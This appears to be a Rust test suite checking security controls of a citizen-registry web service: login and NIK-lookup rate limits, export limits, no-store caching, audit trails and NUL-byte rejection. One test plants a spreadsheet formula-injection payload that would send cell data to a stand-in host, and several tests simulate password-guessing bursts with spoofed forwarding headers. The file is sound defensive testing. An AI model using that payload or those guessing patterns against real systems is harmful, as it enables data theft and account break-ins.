//! Login limits under a burst, spreadsheet cells that cannot become formulas, no caching of personal data.
use super::*;

async fn login_status(app: &TestApp, user: &str, password: &str, from: &str) -> StatusCode {
    Client::new()
        .post(app.url("/api/v1/auth/login"))
        .header("x-forwarded-for", from)
        .json(&json!({"username": user, "password": password}))
        .send()
        .await
        .unwrap()
        .status()
}

/// A burst of wrong passwords cannot outrun the limit, does not starve other requests,
/// and does not lock the owner out from their own office.
#[tokio::test]
async fn login_limits_hold_under_a_burst() {
    let app = TestApp::spawn_with(|c| c.trust_forwarded_for = true).await;
    let viewer = app.token("operator").await;
    let burst: Vec<_> = (0..200)
        .map(|i| {
            let url = app.url("/api/v1/auth/login");
            tokio::spawn(async move {
                Client::new()
                    .post(url)
                    // The client's own claim left of the proxy's is ignored.
                    .header(
                        "x-forwarded-for",
                        format!("10.9.{}.{}, 10.0.0.66", i / 250, i % 250),
                    )
                    .json(&json!({"username": "admin", "password": format!("salah-{i}")}))
                    .send()
                    .await
                    .unwrap()
                    .status()
            })
        })
        .collect();
    // Meanwhile the server answers others (no wall-clock bound: on a loaded 2-core
    // machine a time limit would fail for the machine's sake, not the server's).
    for _ in 0..5 {
        assert_eq!(app.get(&viewer, "/healthz").await.status(), StatusCode::OK);
        assert_eq!(
            app.get(&viewer, "/api/v1/auth/me").await.status(),
            StatusCode::OK
        );
    }
    let mut checked = 0;
    for h in burst {
        match h.await.unwrap() {
            StatusCode::UNAUTHORIZED => checked += 1,
            StatusCode::TOO_MANY_REQUESTS => {}
            s => panic!("unexpected {s}"),
        }
    }
    assert!(checked <= 5, "{checked} wrong passwords were checked");
    // The attacker's address is held back, even with the right password…
    assert_eq!(
        login_status(&app, "admin", PASSWORD, "10.0.0.66").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    // …the owner at the office is not.
    assert_eq!(
        login_status(&app, "admin", PASSWORD, "10.0.0.5").await,
        StatusCode::OK
    );
    app.stop().await;
}

/// One address may try 30 times in a quarter of an hour, whatever the accounts; then it
/// is held back even with a right password, while the same account logs in elsewhere.
#[tokio::test]
async fn thirty_attempts_per_address() {
    let app = TestApp::spawn_with(|c| c.trust_forwarded_for = true).await;
    for i in 0..30 {
        // Six accounts, five tries each: no account's own limit (5 per address) is passed.
        let user = [
            "admin",
            "kabid",
            "operator",
            "auditor",
            "p.langensari",
            "p.pataruman",
        ][i % 6];
        assert_eq!(
            login_status(&app, user, "bukan-sandi-1", "10.1.1.1").await,
            StatusCode::UNAUTHORIZED,
            "attempt {i}"
        );
    }
    assert_eq!(
        login_status(&app, "admin", "bukan-sandi-1", "10.1.1.1").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    assert_eq!(
        login_status(&app, "operator", PASSWORD, "10.1.1.1").await,
        StatusCode::TOO_MANY_REQUESTS,
        "held back, right password or not"
    );
    assert_eq!(
        login_status(&app, "operator", PASSWORD, "10.1.1.2").await,
        StatusCode::OK
    );
    app.stop().await;
}

/// One account may be tried 100 times from all addresses together; then it is held
/// back everywhere, its owner's right password included.
#[tokio::test]
async fn a_hundred_attempts_per_account() {
    let app = TestApp::spawn_with(|c| c.trust_forwarded_for = true).await;
    for i in 0..100 {
        // Four from each address: within the address's limits.
        let from = format!("10.2.{}.1", i / 4);
        assert_eq!(
            login_status(&app, "kabid", "bukan-sandi-1", &from).await,
            StatusCode::UNAUTHORIZED,
            "attempt {i}"
        );
    }
    assert_eq!(
        login_status(&app, "kabid", PASSWORD, "10.3.0.1").await,
        StatusCode::TOO_MANY_REQUESTS,
        "the account is held back from a new address too"
    );
    // Another account from those addresses is not.
    assert_eq!(
        login_status(&app, "operator", PASSWORD, "10.2.0.1").await,
        StatusCode::OK
    );
    app.stop().await;
}

/// No cell of a CSV the system writes becomes a live formula in a spreadsheet program.
#[tokio::test]
async fn csv_cells_cannot_become_formulas() {
    let app = TestApp::spawn().await;
    let op = app.token("operator").await;
    let mut p = siti();
    p["name"] = json!("=HYPERLINK(\"http://x/?\"&A2,\"klik\")");
    create(&app, &op, p).await;
    let csv = app
        .get(&op, "/api/v1/persons/export?format=csv")
        .await
        .text()
        .await
        .unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
    app.stop().await;
}

/// Nothing with personal data is kept by a shared PC's browser; assets are cached.
#[tokio::test]
async fn personal_data_is_never_cached() {
    let app = TestApp::spawn().await;
    let op = app.token("operator").await;
    let id = create(&app, &op, siti()).await;
    let b = app.browser_login("operator").await;
    for path in [
        format!("/persons/{id}"),
        "/persons/export?format=csv".into(),
        "/".into(),
    ] {
        let r = b.get(app.url(&path)).send().await.unwrap();
        assert_eq!(r.headers()["cache-control"], "no-store", "{path}");
    }
    let r = app.get(&op, &format!("/api/v1/persons/{id}")).await;
    assert_eq!(r.headers()["cache-control"], "no-store");
    // An XLSX export is packed in a private temporary file, gone once it is sent.
    let x = app.get(&op, "/api/v1/persons/export?format=xlsx").await;
    assert_eq!(x.headers()["cache-control"], "no-store");
    assert!(x.bytes().await.unwrap().starts_with(b"PK"));
    let prefix = format!("sikube-export-{}-", std::process::id());
    let left = std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(&prefix))
        .count();
    assert_eq!(left, 0, "temporary export files left behind");
    let r = b.get(app.url("/static/app.css")).send().await.unwrap();
    assert!(r.headers()["cache-control"]
        .to_str()
        .unwrap()
        .starts_with("public"));
    // And no CSRF token travels in a URL: no form action carries one.
    for path in ["/import", "/profile"] {
        let page = app.page(&b, path).await;
        assert!(!page.contains("?_csrf="), "{path}");
    }
    app.stop().await;
}

/// A session that asks for a token or a new password re-checks the current password
/// under the login limits: a stolen session cannot guess the password past them.
#[tokio::test]
async fn password_rechecks_count_against_the_login_limits() {
    let app = TestApp::spawn().await;
    let op = app.token("operator").await;
    let b = app.browser_login("operator").await;
    let token = |password: &str| {
        app.post(
            &op,
            "/api/v1/tokens",
            json!({"label": "Sinkron", "password": password}),
        )
    };
    for i in 0..5 {
        assert_eq!(
            token(&format!("tebakan-{i}")).await.status(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "guess {i}"
        );
    }
    let r = token(PASSWORD).await;
    assert_eq!(
        r.status(),
        StatusCode::TOO_MANY_REQUESTS,
        "held back, right password or not"
    );
    // The password form of the same account from the same address is held back too, and
    // so is a login.
    let page = app.page(&b, "/profile").await;
    let csrf = hidden(&page, "_csrf");
    let r = b
        .post(app.url("/profile/password"))
        .form(&[
            ("_csrf", csrf.as_str()),
            ("current", PASSWORD),
            ("new", "Sandi-Baru-2027x"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(
        login_status(&app, "operator", PASSWORD, "127.0.0.1").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    app.stop().await;
}

/// Every answer that tells a facilitator whether NIKs are registered — an import's dry
/// run, a KUBE import's members, a registration (refused as a duplicate or not), a single
/// look-up — counts distinct NIKs against a daily limit; each is audited with its count,
/// and past the limit the answer is refused (429) with the reason. The office's roles
/// are not counted.
#[tokio::test]
async fn nik_lookups_of_masked_roles_are_counted_limited_and_audited() {
    let app = TestApp::spawn_with(|c| c.nik_lookups_per_day = 12).await;
    let op = app.token("operator").await;
    let pl = app.token("p.langensari").await;
    let registered = persons_in(&app, &op, REJASARI, 1, 49).await;
    let known: Value = app
        .get_json(&op, &format!("/api/v1/persons/{}", registered[0]))
        .await;
    let known_nik = known["nik"].as_str().unwrap().to_string();
    // A dry run of ten made-up NIKs and the registered one: eleven looked up.
    let mut csv = String::from("nik,name,sex,birth_date,village_code\n");
    for i in 0..10 {
        csv += &format!(
            "32790415037{:05},Tebakan {i},L,15/03/1970,{REJASARI}\n",
            100 + i
        );
    }
    csv += &format!("{known_nik},Tebakan Tahu,L,{},{REJASARI}\n", {
        let b = known["birth_date"].as_str().unwrap();
        format!("{}/{}/{}", &b[8..10], &b[5..7], &b[..4])
    });
    let dry = |body: String| {
        let req = Client::new()
            .post(app.url("/api/v1/import/persons?dry_run=true"))
            .bearer_auth(&pl)
            .body(body);
        async move { req.send().await.unwrap() }
    };
    let r = dry(csv.clone()).await;
    assert_eq!(r.status(), StatusCode::OK);
    let report: Value = r.json().await.unwrap();
    assert!(report.to_string().contains("skipped"), "{report}");
    let admin = app.token("admin").await;
    let audit = |action: &'static str| {
        let (app, admin) = (&app, &admin);
        async move {
            app.get_json(
                admin,
                &format!("/api/v1/audit?action={action}&username=p.langensari"),
            )
            .await
        }
    };
    let a = audit("nik_lookup").await;
    assert_eq!(a["total"], 1, "{a}");
    assert_eq!(a["items"][0]["after"]["count"], 11, "{a}");
    // The same file again tells nothing new: not counted again.
    assert_eq!(dry(csv).await.status(), StatusCode::OK);
    // A registration is one more (12 of 12)…
    let r = app
        .post(
            &pl,
            "/api/v1/persons",
            json!({"nik": "3279041503700200", "name": "Warga Baru", "sex": "L",
            "birth_date": "1970-03-15", "village_code": REJASARI, "confirm_duplicate": true}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::CREATED);
    // …and the thirteenth NIK, by any route, is refused with the reason.
    let r = app.get(&pl, "/api/v1/persons?q=3279041503700300").await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    let e: Value = r.json().await.unwrap();
    assert!(
        e["error"]["message"].as_str().unwrap().contains("12"),
        "{e}"
    );
    let r = dry(
        "nik,name,sex,birth_date,village_code\n3279041503700400,X,L,15/03/1970,32.79.04.2002\n"
            .into(),
    )
    .await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    let refused = audit("nik_lookup_refused").await;
    assert_eq!(refused["total"], 2, "{refused}");
    // The operator is not counted.
    for i in 0..15 {
        let r = app
            .get(&op, &format!("/api/v1/persons?q=32790415037{:05}", 500 + i))
            .await;
        assert_eq!(r.status(), StatusCode::OK);
    }
    app.stop().await;
}

/// Exports are bounded: two at once per account (four in all), a third refused (429) with
/// the reason; an export whose reader went away stops and gives its place back.
#[tokio::test]
async fn exports_are_bounded_and_stop_when_their_reader_goes() {
    let app = TestApp::spawn().await;
    let op = app.token("operator").await;
    // Enough rows that an export cannot finish before its reader reads: 20 pages of 1,000
    // (some 2.5 MB of CSV), far more than the socket buffers hold for a reader not reading.
    let mut csv = String::from("nik,name,sex,birth_date,village_code\n");
    for i in 0..20_000u32 {
        let (day, serial) = (i % 28 + 1, i / 28 + 1);
        csv += &format!(
            "327904{day:02}0475{serial:04},Warga Ekspor {i},L,{day:02}/04/1975,{REJASARI}\n"
        );
    }
    let r = Client::new()
        .post(app.url("/api/v1/import/persons?mode=all"))
        .bearer_auth(&op)
        .body(csv)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let aud = app.token("auditor").await;
    let open = || app.get(&aud, "/api/v1/persons/export?format=csv");
    let first = open().await;
    let second = open().await;
    assert_eq!(
        (first.status(), second.status()),
        (StatusCode::OK, StatusCode::OK)
    );
    let r = open().await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    let e: Value = r.json().await.unwrap();
    assert!(
        e["error"]["message"].as_str().unwrap().contains("unduhan"),
        "{e}"
    );
    // Another account is not held back by this one's.
    let other = app.get(&op, "/api/v1/persons/export?format=csv").await;
    assert_eq!(other.status(), StatusCode::OK);
    drop(other);
    // The readers go away: the exports stop and their places come back (a bounded wait
    // for the server to notice).
    drop((first, second));
    let mut freed = false;
    for _ in 0..200 {
        let r = open().await;
        if r.status() == StatusCode::OK {
            freed = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
    }
    assert!(freed, "an abandoned export kept its place");
    app.stop().await;
}

/// A dry run leaves a trace like an import does: who checked which file and what it found.
#[tokio::test]
async fn a_dry_run_is_audited_as_an_import_is() {
    let app = TestApp::spawn().await;
    let op = app.token("operator").await;
    let csv = "nik,name,sex,birth_date,village_code\n3279041503700700,Uji Kering,L,15/03/1970,32.79.04.2002\n";
    let r = Client::new()
        .post(app.url("/api/v1/import/persons?dry_run=true"))
        .bearer_auth(&op)
        .body(csv)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let admin = app.token("admin").await;
    let a: Value = app
        .get_json(&admin, "/api/v1/audit?action=import_check")
        .await;
    assert_eq!(a["total"], 1, "{a}");
    let e = &a["items"][0];
    assert_eq!(
        (
            e["username"].as_str(),
            e["after"]["rows"].as_i64(),
            e["after"]["ready"].as_i64()
        ),
        (Some("operator"), Some(1), Some(1)),
        "{e}"
    );
    app.stop().await;
}

/// A NUL character in an address, a JSON body or a form is refused as unreadable (400),
/// on every database (PostgreSQL refuses it in text; the fuzzer once made it a 500).
#[tokio::test]
async fn nul_characters_are_refused_as_unreadable() {
    let app = TestApp::spawn().await;
    let op = app.token("operator").await;
    let r = app
        .get(&op, "/api/v1/kube/membership?district_code=32%0079%00")
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let r = app.get(&op, "/api/v1/persons?q=a%00b").await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let r = app
        .post(
            &op,
            "/api/v1/persons",
            serde_json::json!({"nik": "3279045708920003", "name": "A\u{0}B"}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let b = app.browser_login("operator").await;
    let page = app.page(&b, "/persons/new").await;
    let csrf = crate::common::hidden(&page, "_csrf");
    let r = b
        .post(app.url("/persons"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("_csrf={csrf}&name=A%00B"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
}
